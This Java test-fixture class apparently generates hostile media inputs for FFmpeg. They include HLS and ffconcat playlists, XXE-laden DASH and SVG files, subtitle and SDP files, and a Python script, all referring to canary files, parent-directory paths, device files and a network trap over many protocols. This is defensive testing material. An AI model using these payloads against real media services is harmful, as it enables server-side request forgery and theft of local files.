package io.cliproute.hostile;

import java.util.LinkedHashMap;
import java.util.Map;

/** Texts that FFmpeg opens as media and that refer to other files and addresses, by their usual name. */
final class Scripts {

    private final Map<String, byte[]> all = new LinkedHashMap<>();
    private final Canary canary;
    private final NetworkTrap trap;

    private Scripts(Canary canary, NetworkTrap trap) {
        this.canary = canary;
        this.trap = trap;
    }

    static Map<String, byte[]> of(Canary canary, NetworkTrap trap) {
        Scripts scripts = new Scripts(canary, trap);
        scripts.playlists();
        scripts.concatenations();
        scripts.manifests();
        scripts.sessions();
        scripts.pages();
        scripts.subtitles();
        scripts.programs();
        return scripts.all;
    }

    /** Returns some of them, to be wrapped in a container. */
    static Map<String, String> bare(Canary canary, String web) {
        String film = canary.file("ts").toString();
        return Map.of(
                "hls",
                playlist("#EXTINF:2,\n" + film + "\n#EXTINF:2,\n" + web + "\n#EXT-X-ENDLIST\n"),
                "concat",
                "ffconcat version 1.0\nfile ../../secret/canary.ts\nfile '" + film + "'\n",
                "sibling",
                "ffconcat version 1.0\nfile canary.ts\n",
                "sdp",
                "v=0\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 1234 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
                "text",
                "#EXTM3U\n" + canary.text() + "\n".repeat(500));
    }

    private void add(String name, String text) {
        all.put(name, Bytes.of(text));
    }

    /** Returns addresses that a script may refer to, by a short name. */
    private Map<String, String> targets() {
        String film = canary.file("ts").toString();
        Map<String, String> targets = new LinkedHashMap<>();
        targets.put("http", "http://" + trap.address() + "/x.ts");
        targets.put("tcp", "tcp://" + trap.address());
        targets.put("ftp", "ftp://" + trap.address() + "/x.ts");
        targets.put("file", "file://" + film);
        targets.put("path", film);
        targets.put("relative", "../secret/canary.ts");
        targets.put("sibling", ".canary.ts");
        targets.put("subfile", "subfile,,start,0,end,100000,,:" + film);
        targets.put("crypto", "crypto+file:" + film);
        targets.put("concat", "concat:http://" + trap.address() + "/x|" + film);
        targets.put("text", canary.text().toString());
        targets.put("data", "data:text/plain;base64,I0VYVE0zVQo=");
        targets.put("device", "/dev/zero");
        for (String scheme : "gopher rtmp rtsp udp hls+http mmsh".split(" ")) {
            targets.put(scheme, scheme + "://" + trap.address() + "/x.ts");
        }
        targets.put("cache", "cache:async:http://" + trap.address() + "/x.ts");
        targets.put("pipe", "pipe:0");
        return targets;
    }

    private static String playlist(String lines) {
        return "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:9\n#EXT-X-MEDIA-SEQUENCE:0\n" + lines;
    }

    private void playlists() {
        String end = "#EXT-X-ENDLIST\n";
        targets().forEach((word, place) -> add("hls-" + word + ".m3u8", playlist("#EXTINF:2,\n" + place + "\n" + end)));
        String web = "http://" + trap.address();
        add("hls-self.m3u8", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhls-self.m3u8\n");
        add("hls-live.m3u8", playlist("#EXTINF:2,\n" + canary.file("ts") + "\n"));
        String segment = "#EXTINF:2,\n" + canary.file("ts") + "\n" + end;
        add("hls-map.m3u8", playlist("#EXT-X-MAP:URI=\"" + web + "/init\"\n" + segment));
        add("hls-key.m3u8", playlist("#EXT-X-KEY:METHOD=AES-128,URI=\"" + web + "/key\"\n" + segment));
        add(
                "hls-key-file.m3u8",
                playlist("#EXT-X-KEY:METHOD=AES-128,URI=\"file://" + canary.text() + "\"\n" + segment));
        add(
                "hls-media.m3u8",
                "#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"a\",URI=\"" + web
                        + "/a.m3u8\"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO=\"a\"\n" + web + "/v.m3u8\n");
        add("hls-id3.mp3", "ID3\3\0\0\0\0\0\0" + playlist("#EXTINF:2,\n" + web + "/x.ts\n" + segment));
        add("list.m3u", "#EXTM3U\n" + web + "/x.mp3\n");
        add("list.pls", "[playlist]\nFile1=" + web + "/x.mp3\nNumberOfEntries=1\n");
    }

    private void concatenations() {
        targets()
                .forEach((word, place) -> add(
                        "concat-" + word + ".ffconcat", "ffconcat version 1.0\nfile '" + place + "'\nduration 2\n"));
        add(
                "concat-option.ffconcat",
                "ffconcat version 1.0\nfile canary.ts\noption safe 0\noption protocol_whitelist"
                        + " file,http,tcp\nfile http://" + trap.address() + "/x\n");
        add("concat-self.ffconcat", "ffconcat version 1.0\nfile concat-self.ffconcat\n");
    }

    private void manifests() {
        String web = "http://" + trap.address() + "/";
        for (String base : new String[] {web, "file://" + canary.file("mp4")}) {
            add("dash-" + base.substring(0, 4) + ".mpd", """
                    <?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY e SYSTEM "%1$s">]>
                    <MPD xmlns="urn:mpeg:dash:schema:mpd:2011" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"
                     type="static" mediaPresentationDuration="PT2S"><Period><AdaptationSet mimeType="video/mp4">
                    <Representation id="1" bandwidth="1"><BaseURL>%1$s</BaseURL></Representation></AdaptationSet>
                    </Period></MPD>""".formatted(base));
        }
        add("imf-cpl.xml", """
                <?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">
                <Id>urn:uuid:0</Id><AssetMap>%s</AssetMap></CompositionPlaylist>""".formatted(web));
        add("metalink.f4m", "<manifest><media url=\"" + web + "x\" bitrate=\"1\"/></manifest>");
    }

    private void sessions() {
        String head = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n";
        add("rtp.sdp", head + "m=video " + trap.port() + " RTP/AVP 96\na=rtpmap:96 H264/90000\n");
        add("control.sdp", head + "m=video 0 RTP/AVP/TCP 33\na=control:rtsp://" + trap.address() + "/x\n");
        add("rtsp.rtsp", "rtsp://" + trap.address() + "/x\n");
        add("redirect.asx", "<asx><entry><ref href=\"http://" + trap.address() + "/x\"/></entry></asx>");
        add("redirect.ram", "rtsp://" + trap.address() + "/x.rm\n");
        add("redirect.url", "RTSPtext\nrtsp://" + trap.address() + "/x\n");
    }

    private void pages() {
        String web = "http://" + trap.address() + "/x";
        for (String place : new String[] {web, "file://" + canary.file("png")}) {
            add("image-" + place.substring(0, 4) + ".svg", """
                    <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "%2$s">]>
                    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48">
                    <image xlink:href="%1$s" href="%1$s" width="64" height="48"/><text y="9">&e;</text></svg>""".formatted(
                            place, canary.text().toUri()));
        }
        add(
                "page.smil",
                "<smil><body><video src=\"" + web + "\"/><img src=\"" + canary.file("jpg") + "\"/></body></smil>");
        add("page.html", "<html><img src=\"" + web + "\"><video src=\"" + web + "\"></html>");
        add("vector.ffmetadata", ";FFMETADATA1\ntitle=x\n[STREAM]\nfilename=" + canary.text() + "\n");
        add("movie.xml", "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"" + web + "\"/></x>");
    }

    private void subtitles() {
        String web = "http://" + trap.address() + "/x";
        String file = canary.file("srt").toString();
        add("text.srt", "1\n00:00:00,000 --> 00:00:02,000\n<img src=\"" + web + "\"><font face=\"" + file + "\">x\n");
        add("text.vtt", "WEBVTT\n\nSTYLE\n@import url(" + web + ");\n\n00:00.000 --> 00:02.000\nx\n");
        add(
                "text.ass",
                "[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\n[Fonts]\nfontname: " + file
                        + "\n[Events]\nFormat: Start, End, Text\nDialogue: 0:00:00.00,0:00:02.00,{\\p1}m 0 0{\\fn"
                        + file + "}x\n");
        add("text.rt", "<window duration=\"2\"><time begin=\"0\"/><a href=\"" + web + "\">x</a></window>");
        add("text.sami", "<SAMI><BODY><SYNC Start=0><P><img src=\"" + web + "\">x</SYNC></BODY></SAMI>");
        add("text.pjs", "0,20,\"" + file + "\"\n20,40,\"" + web + "\"\n");
        add("text.sub", "{0}{0}25\n{0}{50}{f:" + file + "}x\n{50}{99}" + web + "\n");
        add("text.lrc", "[ti:" + web + "]\n[00:00.00]" + file + "\n[00:02.00]x\n");
        add(
                "text.tedcaptions",
                "{\"captions\":[{\"duration\":2000,\"content\":\"" + web
                        + "\",\"startOfParagraph\":true,\"startTime\":0}]}");
        add(
                "text.idx",
                "# VobSub index file, v7 (do not modify this line!)\nsize: 64x48\nid: en, index: 0\n"
                        + "timestamp: 00:00:00:000, filepos: 000000000\n");
    }

    /** Adds texts that are programs or options, or whose name makes FFmpeg open other files. */
    private void programs() {
        String web = "http://" + trap.address() + "/x";
        add("tty.txt", (canary.file("txt") + " " + web + "\n").repeat(200));
        add("tty.nfo", "\u001b[2J\u001b[31m" + canary.text() + "\n".repeat(50));
        add("pattern.jpg", canary.text().resolveSibling("canary-%03d.jpg").toString());
        add("picture.xb", "XBIN\u001a\20\0\1\0\20\0\0\0" + playlist("#EXTINF:2,\n" + web + "/x.ts\n"));
        add("script.avs", "ImageSource(\"" + canary.file("png") + "\")\n");
        add("script.vpy", "import urllib.request\nurllib.request.urlopen('" + web + "')\n");
        add("filter.mp4", "movie=" + canary.file("mp4"));
        add("options.ffpreset", "vcodec=copy\ni=" + canary.file("mp4") + "\n");
    }
}
